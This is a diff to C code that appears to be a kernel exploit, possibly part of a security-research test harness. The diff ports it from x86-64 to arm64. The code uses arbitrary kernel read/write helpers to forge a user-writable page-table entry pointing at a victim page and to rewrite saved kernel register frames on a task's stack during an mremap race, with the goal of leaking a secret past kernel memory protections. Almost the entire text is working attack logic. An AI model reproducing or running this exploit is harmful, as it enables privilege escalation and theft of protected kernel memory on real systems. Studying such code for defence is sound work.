@@ -27,15 +27,15 @@
 #define MOVER_CPU	1
 #define MOVED_PART	0x5d		/* and the next one */
 #define MOVED_PAGES	509
-#define STACK_SIZE	(64 << 10)	/* at most */
+#define STACK_PART	(4 << 10)	/* of the stack, with what mremap() uses */
 #define ENOUGH		12		/* frames that were changed */
-#define SECONDS		12
+#define SECONDS		30
 #define HOLD		5		/* milliseconds */
 #define PATIENCE	50		/* likewise, for the mover to go on */
-#define PTE_SPECIAL	(1UL << 9)	/* nobody asks whose the page is ... */
 #define NR_SAVED	2		/* byte of kpkeys_cpu: interrupted sections */
 
-/* struct pt_regs of x86-64, in words */
+/* struct pt_regs, in words; and the bit by which nobody asks whose a page is ... */
+#ifdef __x86_64__
 #define FRAME_WORDS	21
 #define FRAME_GENERAL	15
 #define FRAME_IP	16
@@ -43,6 +43,16 @@
 #define FRAME_SS	20
 #define KERNEL_CS	0x10
 #define KERNEL_SS	0x18
+#define PTE_SPECIAL	(1UL << 9)
+#else
+#define FRAME_WORDS	42
+#define FRAME_GENERAL	31
+#define FRAME_IP	32
+#define FRAME_PSTATE	33
+#define MODE_MASK	0x1f
+#define MODE_KERNEL	0x5		/* at EL1 */
+#define PTE_SPECIAL	(1UL << 56)
+#endif
 
 /* Two places that differ by a page, so that no table is moved as a whole. */
 static const int first_entry[] = { 1, 2 };
@@ -57,8 +67,8 @@ static struct {
 struct target {
 	struct task task;
 	struct kernel_page forged;
-	uint64_t table[2], function, lock, state;
-	int changed;			/* frames, so far */
+	uint64_t table[2], function, lock, state, entry;
+	int held, changed;		/* handlers that waited, and frames, so far */
 };
 
 static char *place(int which)
@@ -182,16 +192,9 @@ static uint64_t find_lock(const struct task *task)
 	return 0;
 }
 
-static void wait_ms(int ms)
-{
-	uint64_t end = now_ms() + ms;
-
-	while (now_ms() < end)
-		;
-}
-
 static bool find_target(pid_t pid, struct target *target)
 {
+	char zero[PAGE_SIZE];
 	struct slot slot;
 	int i;
 
@@ -202,9 +205,11 @@ static bool find_target(pid_t pid, struct target *target)
 	}
 	target->function = ksymbol(MOVER);
 	target->state = ksymbol_cpu("kpkeys_cpu", MOVER_CPU);
-	if (!target->function || ktask(pid, &target->task) ||
-	    target->task.stack_size > STACK_SIZE || !kernel_page(&target->forged))
+	if (!target->function || ktask(pid, &target->task) || !kernel_page(&target->forged))
 		return false;
+	memset(zero, 0, sizeof(zero));
+	kwrite(target->forged.addr, zero, sizeof(zero));
+	target->entry = (victim_phys() & ~(PAGE_SIZE - 1)) | PTE_USER_RW | PTE_SPECIAL;
 	target->lock = find_lock(&target->task);
 	return target->lock;
 }
@@ -214,13 +219,13 @@ static void set_lock(const struct target *target, char locked)
 	kwrite(target->lock, &locked, sizeof(locked));
 }
 
-/* Long enough for the timer to come, and its handler to wait. */
+/* Asleep: on an emulator a busy CPU delays each flush of the mover's TLB. */
 static bool hold_lock(const struct target *target)
 {
 	uint32_t lock = 0;
 
 	set_lock(target, 1);
-	wait_ms(HOLD);
+	usleep(HOLD * 1000);
 	kread(target->lock, &lock, sizeof(lock));
 	return lock;
 }
@@ -235,16 +240,18 @@ static bool is_section(const struct target *target)
 	return nr;
 }
 
+static void write_entry(const struct target *target, int which, uint64_t value)
+{
+	int last = first_entry[which] + MOVED_PAGES - 1;
+
+	kwrite64(target->forged.addr + last * sizeof(value), value);
+}
+
 /* The only entry that is not empty is the last one to be moved. */
 static void prepare_page(const struct target *target)
 {
-	char zero[PAGE_SIZE];
-	int last = first_entry[mover->from] + MOVED_PAGES - 1;
-
-	memset(zero, 0, sizeof(zero));
-	kwrite(target->forged.addr, zero, sizeof(zero));
-	kwrite64(target->forged.addr + last * sizeof(uint64_t),
-		 (victim_phys() & ~(PAGE_SIZE - 1)) | PTE_USER_RW | PTE_SPECIAL);
+	write_entry(target, mover->from, target->entry);
+	write_entry(target, !mover->from, 0);
 }
 
 static void change_frame(struct target *target, uint64_t at, const uint64_t *frame)
@@ -260,21 +267,30 @@ static void change_frame(struct target *target, uint64_t at, const uint64_t *fra
 	}
 }
 
+static bool is_kernel(const uint64_t *frame)
+{
+#ifdef __x86_64__
+	return frame[FRAME_CS] == KERNEL_CS && frame[FRAME_SS] == KERNEL_SS;
+#else
+	return (frame[FRAME_PSTATE] & MODE_MASK) == MODE_KERNEL;
+#endif
+}
+
 static bool is_frame(const struct target *target, const uint64_t *frame)
 {
-	return frame[FRAME_CS] == KERNEL_CS && frame[FRAME_SS] == KERNEL_SS &&
-	       frame[FRAME_IP] - target->function < MOVER_SIZE;
+	return is_kernel(frame) && frame[FRAME_IP] - target->function < MOVER_SIZE;
 }
 
 static void change_stack(struct target *target)
 {
-	static uint64_t words[STACK_SIZE / sizeof(uint64_t)];
-	size_t i, nr = target->task.stack_size / sizeof(*words);
+	static uint64_t words[STACK_PART / sizeof(uint64_t)];
+	uint64_t part = target->task.stack + target->task.stack_size - sizeof(words);
+	size_t i;
 
-	kread(target->task.stack, words, target->task.stack_size);
-	for (i = 0; i + FRAME_WORDS <= nr; i++)
+	kread(part, words, sizeof(words));
+	for (i = 0; i + FRAME_WORDS <= STACK_PART / sizeof(*words); i++)
 		if (is_frame(target, words + i))
-			change_frame(target, target->task.stack + i * sizeof(*words), words + i);
+			change_frame(target, part + i * sizeof(*words), words + i);
 }
 
 static void wait_for_round(void)
@@ -283,12 +299,13 @@ static void wait_for_round(void)
 	uint64_t end = now_ms() + PATIENCE;
 
 	while (mover->rounds - round < 2 && !mover->found && now_ms() < end)
-		;
+		usleep(1000);
 }
 
 static void attack_once(struct target *target)
 {
 	if (hold_lock(target) && is_section(target)) {
+		target->held++;
 		prepare_page(target);
 		change_stack(target);
 	}
@@ -303,7 +320,8 @@ static enum outcome change_registers(struct target *target)
 	while (!mover->found && target->changed < ENOUGH && now_ms() < end)
 		attack_once(target);
 	if (!mover->found && !target->changed)
-		return broken("no section was interrupted");
+		return broken("no section was interrupted (%lu rounds, waited %d times)",
+			      mover->rounds, target->held);
 	return judge_secret(mover->text, 0);
 }
 
